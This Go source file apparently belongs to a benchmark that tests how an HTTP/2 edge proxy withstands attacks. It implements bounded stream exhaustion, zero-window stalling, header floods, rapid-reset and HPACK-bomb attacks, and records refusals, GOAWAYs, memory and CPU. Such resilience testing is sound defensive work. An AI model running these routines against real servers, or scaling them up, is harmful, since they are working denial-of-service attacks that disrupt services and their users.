package main

import (
	"fmt"
	"strings"
	"sync"
	"time"

	"github.com/gordon-deploy/docker-gordon/bench/internal/proc"
	"golang.org/x/net/http2"
)

// The five attacks of `edgebench attack`. Each is bounded in count (the
// constants) and in time (d, never above attackMax); each returns its
// figures: bound, the one-line summary the table shows, and the numbers.

const (
	attackMax       = 10 * time.Second
	streamsOpened   = 300  // concurrent streams: streams opened on one connection
	stalledConns    = 4    // stalled streams: connections
	stalledStreams  = 250  // ... and GETs of /big on each
	floodConns      = 4    // header flood: connections
	floodStreams    = 250  // ... and streams on each
	floodFields     = 10   // ... header fields of floodFieldSize bytes each
	floodFieldSize  = 6000 // (60 KB: over the edge's 32 KiB header list limit and nginx's)
	floodFieldOver  = 7000 // (70 KB: over it)
	floodInFlight   = 64   // ... streams awaiting an answer, at most, per connection
	resetConns      = 4    // rapid reset: connections
	resetPairs      = 20000
	resetBatch      = 64   // pairs written between flushes
	bombEntry       = 4000 // HPACK bomb: value size of the indexed header
	bombRefs        = 4000 // ... references per block
	bombBlocks      = 2000 // ... blocks at most
	attackLingerMin = 300 * time.Millisecond
)

// attackFigures is what one attack measured on one target.
type attackFigures struct {
	Bound   string             `json:"bound"`
	Figures map[string]float64 `json:"figures"`
	GoAway  string             `json:"goaway,omitempty"`
}

// attackFunc runs one attack against t (its backend be) for at most d.
type attackFunc func(t *httpsTarget, be *attackBackend, d time.Duration) (attackFigures, error)

// attacks in the order they run.
var attacks = []struct {
	name string
	run  attackFunc
}{
	{"concurrent streams", attackStreams},
	{"stalled streams", attackStalled},
	{"header flood 60K", func(t *httpsTarget, be *attackBackend, d time.Duration) (attackFigures, error) {
		return attackFlood(t, be, d, floodFieldSize)
	}},
	{"header flood 70K", func(t *httpsTarget, be *attackBackend, d time.Duration) (attackFigures, error) {
		return attackFlood(t, be, d, floodFieldOver)
	}},
	{"rapid reset", attackRapidReset},
	{"hpack bomb", attackBomb},
}

// attackStreams opens streamsOpened streams of /slow on one connection
// and, while the backend sleeps, counts refused streams and the backend's
// peak of requests in flight.
func attackStreams(t *httpsTarget, be *attackBackend, d time.Duration) (attackFigures, error) {
	end := time.Now().Add(d)
	c, err := dialH2(t.addr, 1<<20, true, end.Add(time.Second))
	if err != nil {
		return attackFigures{}, err
	}
	defer c.close()
	block := hpackGet("/slow")
	err = c.write(func(*http2.Framer) error {
		for range streamsOpened {
			if err := c.writeBlock(c.newStream(), block, true); err != nil {
				return err
			}
			c.sent.Add(1)
		}
		return nil
	})
	if err != nil && c.sent.Load() == 0 {
		return attackFigures{}, err
	}
	// The backend holds each /slow for backendSlow: sample until the
	// answers are back.
	peak := be.sample(&be.slowInFlight, time.Now().Add(min(backendSlow+300*time.Millisecond, time.Until(end))))
	sent, refused, reset, answered := c.sent.Load(), c.refused.Load(), c.resets.Load(), c.responses.Load()
	f := attackFigures{Figures: map[string]float64{
		"sent": float64(sent), "refused": float64(refused), "reset": float64(reset), "answered": float64(answered),
		"backend_in_flight_peak": float64(peak),
	}}
	f.Bound = fmt.Sprintf("in flight %d of %d (answered %d, refused %d, reset %d)", peak, sent, answered, refused, reset)
	f.GoAway = goAwayNote(c)
	return f, nil
}

// attackStalled opens stalledConns connections with a zero initial
// window, each asking for /big stalledStreams times, and samples how many
// backend connections the target holds meanwhile.
func attackStalled(t *httpsTarget, be *attackBackend, d time.Duration) (attackFigures, error) {
	end := time.Now().Add(d)
	base := be.open.Load()
	var conns []*h2conn
	defer func() {
		for _, c := range conns {
			c.close()
		}
	}()
	block := hpackGet("/big")
	for range stalledConns {
		c, err := dialH2(t.addr, 0, false, end.Add(time.Second))
		if err != nil {
			return attackFigures{}, err
		}
		conns = append(conns, c)
		_ = c.write(func(*http2.Framer) error {
			for range stalledStreams {
				if err := c.writeBlock(c.newStream(), block, true); err != nil {
					return err
				}
				c.sent.Add(1)
			}
			return nil
		})
	}
	var peak, bigPeak int64
	for time.Now().Before(end) { // sampled every 50 ms
		time.Sleep(50 * time.Millisecond)
		peak, bigPeak = max(peak, be.open.Load()), max(bigPeak, be.bigInFlight.Load())
	}
	held, bigHeld := be.open.Load(), be.bigInFlight.Load()
	var refused, reset int64
	for _, c := range conns {
		refused += c.refused.Load()
		reset += c.resets.Load()
	}
	f := attackFigures{Figures: map[string]float64{
		"backend_conns_base": float64(base), "backend_conns_peak": float64(peak), "backend_conns_end": float64(held),
		"big_in_flight_peak": float64(bigPeak), "big_in_flight_end": float64(bigHeld),
		"refused": float64(refused), "reset": float64(reset),
	}}
	f.Bound = fmt.Sprintf("/big held peak %d, at end %d; backend conns %d→peak %d, at end %d (refused %d, reset %d)",
		bigPeak, bigHeld, base, peak, held, refused, reset)
	f.GoAway = goAwayNote(conns...)
	return f, nil
}

// floodBlock is a GET / block with floodFields fields of size bytes
// (literals without indexing: the full size on every stream).
func floodBlock(size int) []byte {
	b := hpackGet("/")
	v := strings.Repeat("f", size)
	for i := range floodFields {
		b = hpackLiteral(b, fmt.Sprintf("x-flood-%d", i), v)
	}
	return b
}

// attackFlood sends floodConns × floodStreams requests of floodFields ×
// size bytes of headers (HEADERS + CONTINUATION), at most floodInFlight unanswered per
// connection, and counts 431s, forwarded requests and GOAWAYs, with the
// target's RSS before and at its peak.
func attackFlood(t *httpsTarget, be *attackBackend, d time.Duration, size int) (attackFigures, error) {
	end := time.Now().Add(d)
	block := floodBlock(size)
	before := proc.RSSKiB(t.pids()...)
	stopPeak := proc.PeakRSS(t.pids, 100*time.Millisecond)
	fwd0 := be.flooded.Load()
	conns, err := parallelConns(t.addr, floodConns, true, end, func(c *h2conn) {
		for range floodStreams {
			for c.sent.Load()-c.responses.Load()-c.refused.Load()-c.resets.Load() >= floodInFlight && time.Now().Before(end) && !c.goaway.Load() {
				time.Sleep(time.Millisecond)
			}
			if time.Now().After(end) || c.goaway.Load() || c.open(block) != nil {
				return
			}
			c.sent.Add(1)
		}
	})
	if err != nil {
		return attackFigures{}, err
	}
	time.Sleep(attackLingerMin) // the last answers
	peak := stopPeak()
	var sent, s431, refused, goaways int64
	for _, c := range conns {
		sent += c.sent.Load()
		s431 += c.status431.Load()
		refused += c.refused.Load()
		if c.goaway.Load() {
			goaways++
		}
	}
	fwd := be.flooded.Load() - fwd0
	f := attackFigures{Figures: map[string]float64{
		"sent": float64(sent), "status_431": float64(s431), "forwarded": float64(fwd), "refused": float64(refused),
		"goaway_conns": float64(goaways), "rss_before_kib": float64(before), "rss_peak_kib": float64(peak),
	}}
	f.Bound = fmt.Sprintf("sent %d: 431 %d, forwarded %d, GOAWAY %d/%d conns; RSS %.1f→%.1f MiB",
		sent, s431, fwd, goaways, len(conns), float64(before)/1024, float64(max(peak, before))/1024)
	f.GoAway = goAwayNote(conns...)
	return f, nil
}

// parallelConns dials n connections to addr and runs each on its own
// connection at once; it returns the connections, closed, once every
// each has returned.
func parallelConns(addr string, n int, openWindow bool, end time.Time, each func(c *h2conn)) ([]*h2conn, error) {
	var conns []*h2conn
	for range n {
		c, err := dialH2(addr, 1<<20, openWindow, end.Add(time.Second))
		if err != nil {
			for _, c := range conns {
				c.close()
			}
			return nil, err
		}
		conns = append(conns, c)
	}
	var wg sync.WaitGroup
	for _, c := range conns {
		wg.Add(1)
		go func() { defer wg.Done(); each(c) }()
	}
	wg.Wait()
	time.Sleep(attackLingerMin) // GOAWAYs in flight
	for _, c := range conns {
		c.close()
	}
	return conns, nil
}

// attackRapidReset sends HEADERS + RST_STREAM(CANCEL) pairs on
// resetConns connections until GOAWAY, resetPairs pairs or d, and
// measures the target's CPU time over the wall time.
func attackRapidReset(t *httpsTarget, _ *attackBackend, d time.Duration) (attackFigures, error) {
	end := time.Now().Add(d)
	block := hpackGet("/")
	cpu0, start := proc.CPUTime(t.pids()...), time.Now()
	conns, err := parallelConns(t.addr, resetConns, true, end, func(c *h2conn) {
		for c.sent.Load() < resetPairs && !c.goaway.Load() && time.Now().Before(end) {
			err := c.write(func(fr *http2.Framer) error {
				for range resetBatch {
					id := c.newStream()
					if err := c.writeBlock(id, block, true); err != nil {
						return err
					}
					if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			})
			if err != nil {
				return
			}
			c.sent.Add(resetBatch)
		}
	})
	if err != nil {
		return attackFigures{}, err
	}
	wall := time.Since(start)
	cpu := proc.CPUTime(t.pids()...) - cpu0
	f := attackFigures{Figures: map[string]float64{"cpu_per_wall": cpu.Seconds() / wall.Seconds()}}
	// The pairs the target took before its GOAWAY (its last stream id)
	// and the pairs this client had written by then (bounded by socket
	// buffers rather than by the target).
	var taken, sent []string
	for i, c := range conns {
		n := c.sent.Load()
		if c.goaway.Load() {
			n = c.sentAtGA.Load()
		}
		last, codes := c.goAwayLast()
		f.Figures[fmt.Sprintf("pairs_sent_before_goaway_%d", i)] = float64(n)
		tk := "-"
		if c.goaway.Load() {
			f.Figures[fmt.Sprintf("pairs_taken_before_goaway_%d", i)] = float64((last + 1) / 2)
			tk = fmt.Sprint((last + 1) / 2)
		}
		taken, sent = append(taken, tk), append(sent, fmt.Sprint(n))
		if i == 0 && len(codes) > 1 {
			f.Figures["goaways_conn_0"] = float64(len(codes))
		}
	}
	f.GoAway = goAwayNote(conns...)
	f.Bound = fmt.Sprintf("taken before GOAWAY %s (sent %s); CPU %.0f%%", strings.Join(taken, "/"), strings.Join(sent, "/"), 100*cpu.Seconds()/wall.Seconds())
	return f, nil
}

// attackBomb indexes one header of bombEntry bytes, then sends blocks of
// bombRefs references to it until the target ends the connection,
// bombBlocks or d.
func attackBomb(t *httpsTarget, _ *attackBackend, d time.Duration) (attackFigures, error) {
	end := time.Now().Add(d)
	c, err := dialH2(t.addr, 1<<20, true, end.Add(time.Second))
	if err != nil {
		return attackFigures{}, err
	}
	defer c.close()
	if err := c.open(hpackIndexed(hpackGet("/"), "x-b", strings.Repeat("b", bombEntry))); err != nil {
		return attackFigures{}, err
	}
	block := hpackBomb(bombRefs)
	start := time.Now()
	for c.sent.Load() < bombBlocks && time.Now().Before(end) && !c.goaway.Load() && c.closed().IsZero() {
		if c.open(block) != nil {
			break
		}
		c.sent.Add(1)
	}
	select { // the target's answer to the last blocks
	case <-c.done:
	case <-time.After(time.Until(end.Add(attackLingerMin))):
	}
	sent := c.sent.Load()
	f := attackFigures{Figures: map[string]float64{
		"blocks_sent": float64(sent), "wire_kib": float64(sent*int64(len(block))) / 1024,
		"decoded_mib": float64(sent) * bombRefs * (bombEntry + 3 + 32) / (1 << 20),
		"responses":   float64(c.responses.Load()), "resets": float64(c.resets.Load()),
	}}
	_, at, ok := c.goAway()
	if last, _ := c.goAwayLast(); ok {
		f.Figures["streams_taken"] = float64((last + 1) / 2)
	}
	if cl := c.closed(); !ok && !cl.IsZero() {
		at, ok = cl, true
	}
	if ok {
		f.Figures["close_ms"] = float64(at.Sub(start).Milliseconds())
		f.Bound = fmt.Sprintf("closed after %d ms, %.0f blocks taken (%d sent, %.0f KiB)", at.Sub(start).Milliseconds(), f.Figures["streams_taken"], sent, f.Figures["wire_kib"])
	} else {
		f.Bound = fmt.Sprintf("not closed: %d blocks (%.0f KiB sent), %d answers, %d resets", sent, f.Figures["wire_kib"], c.responses.Load(), c.resets.Load())
	}
	f.GoAway = goAwayNote(c)
	return f, nil
}

// goAwayNote names the GOAWAY codes the connections got ("" if none).
func goAwayNote(conns ...*h2conn) string {
	seen := map[string]int{}
	var order []string
	for _, c := range conns {
		_, codes := c.goAwayLast()
		var seq []string
		for _, code := range codes {
			seq = append(seq, code.String())
		}
		if k := strings.Join(seq, "+"); k != "" {
			if seen[k] == 0 {
				order = append(order, k)
			}
			seen[k]++
		}
	}
	var parts []string
	for _, s := range order {
		parts = append(parts, fmt.Sprintf("%s×%d", s, seen[s]))
	}
	return strings.Join(parts, " ")
}
